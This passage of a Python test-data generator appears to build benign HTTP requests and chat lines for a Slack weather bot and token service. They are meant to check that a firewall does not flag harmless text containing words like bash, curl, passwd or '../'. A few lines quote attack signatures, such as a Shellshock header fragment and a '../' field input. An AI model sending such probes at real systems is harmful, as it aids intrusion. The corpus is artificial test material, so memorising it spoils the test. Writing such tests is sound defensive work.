    "found in the audit: the backup script left gateway.yaml.bak in the repo root, deleted",
    "the .env file is gitignored, .run/ too; checked with git status",
    "someone opened an issue: \"../\" in the timezone field gives a 400 instead of a nice error",
    "shellshock is from 2014, our images have a patched bash anyway, but the WAF flags () { :; } style headers",
    "what's the windows equivalent of `tail -f`? Get-Content -Wait in PowerShell",
    "we don't run any cmd.exe stuff; the build agents are Linux only since March",
    "powershell users: use `iwr -Uri https://localhost:8443/healthz -SkipCertificateCheck`",
    "the nightly backup is pg_dump > jeeves-$(date +%F).sql, then gzip and upload to the bucket",
    "wget the release tarball from GitHub, check the sha256, then ./configure && make",
    "the ftp server for the weather data vendor was shut down, they moved to https",
    "mount the smb share \\\\fileserver\\team on your laptop for the design files",
    "the data: URL for the logo in the email template was too long, using an https link now",
    # release notes and bug reports
    "release 2.4: slash commands answer within 2 s or via response_url; App Home shows your settings",
    "release 2.5: /me/data.json exports your data; Forget me deletes it and writes user.forget_me to the audit",
    "release 2.6: TokenDealer supports RS256 keys (TOKENDEALER_SIGNING_ALG=RS256) and key rotation",
    "bug: /admin/users?q=o'brien shows no results although O'Brien exists",
    "bug: admin login next=/admin/users drops the page parameter after sign-in",
    "bug: the audit log search for \"client.rotate\" also matches client.create",
    "bug: the weather for \"São Paulo\" shows \"Sao Paulo, US\" on the button label",
    "bug: redirect_uri mismatch when PUBLIC_BASE_URL has a trailing slash",
    "bug: alert_time 24:00 is accepted on /me/ but the worker skips it",
    "feature request: let admins include a team filter on /admin/features",
    "feature request: an include_inactive flag on GET /api/users",
    "support: customer wants the audit export as CSV instead of the page",
    "question: is the template for the App Home view in app/services/actions/blocks.py?",
    "the page param on /admin/audit goes up to 100000, enough for years of logs",
    "our file naming for exports is jeeves-users-2024-06-01.csv, please keep that",
    "old config backups (*.bak, *.old) are not allowed in the repo, pre-commit hook checks it",
    "php.ini and web.config come from the old marketing site, not from this repo",
    "the git log shows the id_rsa was never committed, false alarm from the scanner",
    "penetration test report is in the drive: 0 critical, 2 medium (verbose error page, missing header)",
    "tester asked if response_url can point anywhere; no, only hooks.slack.com, see interactions.py",
    "is jku supported in our JWTs? no, kid only, keys come from /.well-known/jwks.json",
    "the x-request-id echo is handy, paste it when you report a 403 from the edge",
    "Accept-Language pt-BR works, the forecast text is still English though",
    "the cookie is __Host-jeeves_me, it's Secure and Path=/ so it won't show on http",
    "ops: rotate-secret for jeeves-worker done, the worker picked it up after restart",
    "ops: tee the output to a file next time, `make test 2>&1 | tee test.log`",
    "ops: echo $DATABASE_URL is empty in the cron shell, set it in the unit file",
    "ops: the curl | sh installer for the monitoring agent is blocked by policy, use the apt repo",
    "ops: reverse proxy in front of grafana is on 10.0.0.12, ask before changing it",
    "ops: 203.0.113.0/24 is the documentation range, use it in examples not real IPs",
]
ADMIN_SEARCHES = [
    "ada", "o'brien", "T061EG9R6", "U0DEMOADA", "@example.org", "bath", "cat", "smith", "tee", "echo",
    "shell", "path", "page", "include", "template", "file", "passwd", "root", "admin", "ops",
    "dev-null", "bash", "curl", "wget", "powershell", "windows", "proc", "config", "backup", "old",
]
AUDIT_SEARCHES = [
    "user.forget_me", "client.rotate", "client.create", "login.failed", "user.admin", "feature.set",
    "slack.map", "reporting-bot", "jeeves-worker", "203.0.113.10",
]
URLS = [
    "https://localhost:8443/me/",
    "https://localhost:8443/auth/slack/login?for=admin",
    "https://localhost:8443/.well-known/jwks.json",
    "https://localhost:8443/.well-known/oauth-authorization-server",
    "https://localhost:8443/api/openapi.json",
    "https://api.slack.com/apps",
    "https://api.slack.com/interactivity/handling#message_responses",
    "https://api.slack.com/events/message/file_share",
    "https://slack.com/openid/connect/keys",
    "https://open-meteo.com/en/docs/geocoding-api",
    "https://www.iana.org/time-zones",
    "https://en.wikipedia.org/wiki/List_of_tz_database_time_zones",
    "https://datatracker.ietf.org/doc/html/rfc9068",
    "https://datatracker.ietf.org/doc/html/rfc7662",
    "https://datatracker.ietf.org/doc/html/rfc8414#section-3",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://cwe.mitre.org/data/definitions/98.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://coreruleset.org/docs/",
    "https://nginx.org/en/docs/http/ngx_http_core_module.html#merge_slashes",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://www.gnu.org/software/bash/manual/bash.html#Shell-Expansions",
    "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://github.com/acme/jeeves/issues/412",
    "https://github.com/acme/jeeves/releases/tag/v2.6.0",
    "ftp://ftp.iana.org/tz/releases/tzdata2024a.tar.gz",
]
PROSE = [
    "Customer reports the weather alert arrives an hour late since the clocks changed.",
    "Pentest scope: the edge at https://localhost:8443, Jeeves and TokenDealer; no DoS.",
    "Tester found no path traversal in /admin/static/; the 404 page is JSON.",
    "Please include the request id (X-Request-Id) when you report a blocked request.",
    "The template for the weekly report lives in the shared drive under Reports/2024.",
    "Export the audit log for March as a file and attach it to the ticket.",
    "The page size of the users list is 25; the audit log shows 50 per page.",
    "Rotate the client secret of reporting-bot after the contractor leaves.",
    "Backups of the database are encrypted and kept for 30 days.",
    "The old Windows build server (win.ini, boot.ini era) was decommissioned.",
    "Shell scripts in tools/ must pass shellcheck before merging.",
    "We use curl in the health check: curl -fsS https://localhost:8443/readyz.",
    "The password file on the jump host is managed by the IT team, not us.",
    "PowerShell scripts for the Windows laptops are in the IT repo.",
    "Reverse proxy settings are documented in certs/README.md.",
    "The redirect after login goes back to the page you came from.",
    "Include a screenshot of /me/ when you report a settings problem.",
    "The .bak files from the migration were removed from the server.",
    "The protocol for the data vendor changed from FTP to HTTPS in April.",
    "Please echo back the customer's question before answering it.",
    "Tee shirts for the team offsite: sizes due Friday.",
    "The cat in the office is called Root; she has her own Slack emoji.",
    "The path to the shared folder changed to \\\\fileserver\\team\\design.",
    "Log rotation keeps 14 days of gateway logs on the host.",
    "Bash and zsh both work for the make targets; fish does not.",
    "Null values in the export are written as empty cells.",
    "The truncation of long place names on the button is intentional (75 characters).",
    "Remote files in the import are fetched only from our own bucket.",
    "The include list for the newsletter is maintained by marketing.",
    "Absolute paths in the config are resolved relative to RUN_DIR.",
]
PROFILE_NAMES = [
    "Ada Lovelace", "Siobhán O'Brien", "José Ñúñez", "Zoë Müller", "Ben & Jerry's Team", "Pat Shell",
    "Sam Curl", "Robin Path", "Alex Include", "Mo Bash", "Dana Root", "Chris Page",
    "Taylor File", "Jordan Template", "Kim Echo", "Lee Tee", "Morgan Cat", "Riley Windows",
    "Jamie Ping", "Casey Null",
]
PLACES = [
    "Paris", "Bath", "Cat Island", "Shell Beach", "Echo Lake", "Root River", "Windows on the World",
    "Bash Bish Falls", "Tee Harbor", "Ping An", "Null Island", "Path Valley", "Ben & Jerry's",
    "St. John's", "Llanfairpwllgwyngyll", "São Paulo", "Zürich", "Kraków", "Washington, D.C.", "Paris, Texas",
]
COMMANDS = [
    "help", "weather Paris", "weather in Sydney tomorrow?", "remember location Ben & Jerry's", "login",
    "forget me", "config", "alerts on", "alerts off", "weather São Paulo", "remember location Cat Island",
    "weather Bath, UK", "weather Shell Beach", "remember location Echo Lake", "weather 51.5, -0.12",
]
FILE_NAMES = [
    "report-2024-q2.pdf", "gateway.yaml", "nginx-error.log", "audit-march.csv", "screenshot 2024-06-01.png",
    "pentest-report-final.pdf", "config-backup-notes.txt", "jeeves-users-2024-06-01.csv", "tz-list.txt",
    "make-test-output.log", "powershell-setup.docx", "curl-examples.md", "passwd-policy.pdf",
    "release-notes-2.6.md", "jwks-rotation.png",
]
SETTINGS = [("metric", "07:30", "Europe/London"), ("imperial", "06:45", "America/New_York"),
            ("metric", "08:00", "America/Argentina/Buenos_Aires"), ("metric", "07:15", "Etc/GMT+3"),
            ("imperial", "09:00", "US/Pacific"), ("metric", "05:30", "Asia/Kolkata")]
TOKEN_REQUESTS = [("read", "jeeves"), ("read write", "jeeves"), ("clients:admin", "tokendealer")]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Wget/1.21.3"),
    ("User-Agent", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506"),
    ("User-Agent", "python-httpx/0.27.0"),
    ("User-Agent", "schemathesis/3.29.2"),
    ("Referer", "https://localhost:8443/admin/users?q=ada&page=2"),
    ("Referer", "https://localhost:8443/me/?done=settings_saved"),
    ("Referer", "https://app.slack.com/client/T061EG9R6/D0123456789"),
    ("Accept-Language", "en-GB,en;q=0.9"),
    ("Accept-Language", "pt-BR,pt;q=0.8,en-US;q=0.5"),
    ("Accept-Language", "de-CH, fr;q=0.7, *;q=0.1"),
    ("X-Request-Id", "support-ticket-4127"),
    ("X-Request-Id", "8f14e45f-ceea-467a-9575-6c5a4d2b9f4e"),
    ("Cookie", "__Host-jeeves_me=H4nR8sLq2VzX6cTb1KmW9pYd3JfG7eNa"),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from numbered((_request("GET", "/admin/users?" + urllib.parse.urlencode({"q": q, "page": "1"}),
                                      Accept="text/html", Cookie=ADMIN_COOKIE) for q in ADMIN_SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((_request("GET", _query("/admin/audit", [("q", q)]), Accept="text/html",
                                      Cookie=ADMIN_COOKIE) for q in AUDIT_SEARCHES), f"{NAME}-audit", n, "query")
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    n = yield from numbered((_api("PATCH", f"/api/users/{40 + k}", {"name": who})
                             for k, who in enumerate(PROFILE_NAMES)), f"{NAME}-profile", n, "json")
    n = yield from numbered((_me_form("/me/location", [("place", "")], "place", p, False) for p in PLACES),
                            f"{NAME}-place", n, "form")
    n = yield from numbered((_slash(c) for c in COMMANDS), f"{NAME}-command", n, "form")
    n = yield from numbered((_file_event(f) for f in FILE_NAMES), f"{NAME}-file", n, "json")
    n = yield from numbered((_me_form("/me/settings", [("units", u), ("alert_time", t), ("timezone", z),
                                                       ("alerts", "on")], "", "", False)
                             for u, t, z in SETTINGS),
                            f"{NAME}-settings", n, "form")
    n = yield from numbered((_token_form("/oauth/token", [("grant_type", "client_credentials"), ("scope", s),
                                                          ("audience", a)], "", "", False)
                             for s, a in TOKEN_REQUESTS),
                            f"{NAME}-token", n, "form")
    yield from numbered((_request("GET", "/me/" if k == "Cookie" else "/admin/login", Accept="text/html", **{k: v})
                         for k, v in BENIGN_HEADERS), f"{NAME}-header", n, "header")


if __name__ == "__main__":
    print_records(attacks(), benign())
